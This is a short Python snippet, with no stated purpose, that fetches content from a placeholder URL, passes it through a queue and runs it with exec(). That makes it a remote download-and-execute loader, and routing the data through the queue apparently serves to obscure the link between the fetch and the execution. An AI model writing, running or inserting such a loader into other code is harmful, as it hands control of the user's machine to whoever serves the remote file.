import queue
import urllib.request

waiting = queue.Queue()
waiting.put(urllib.request.urlopen("http://files.example/a").read())
exec(waiting.get())
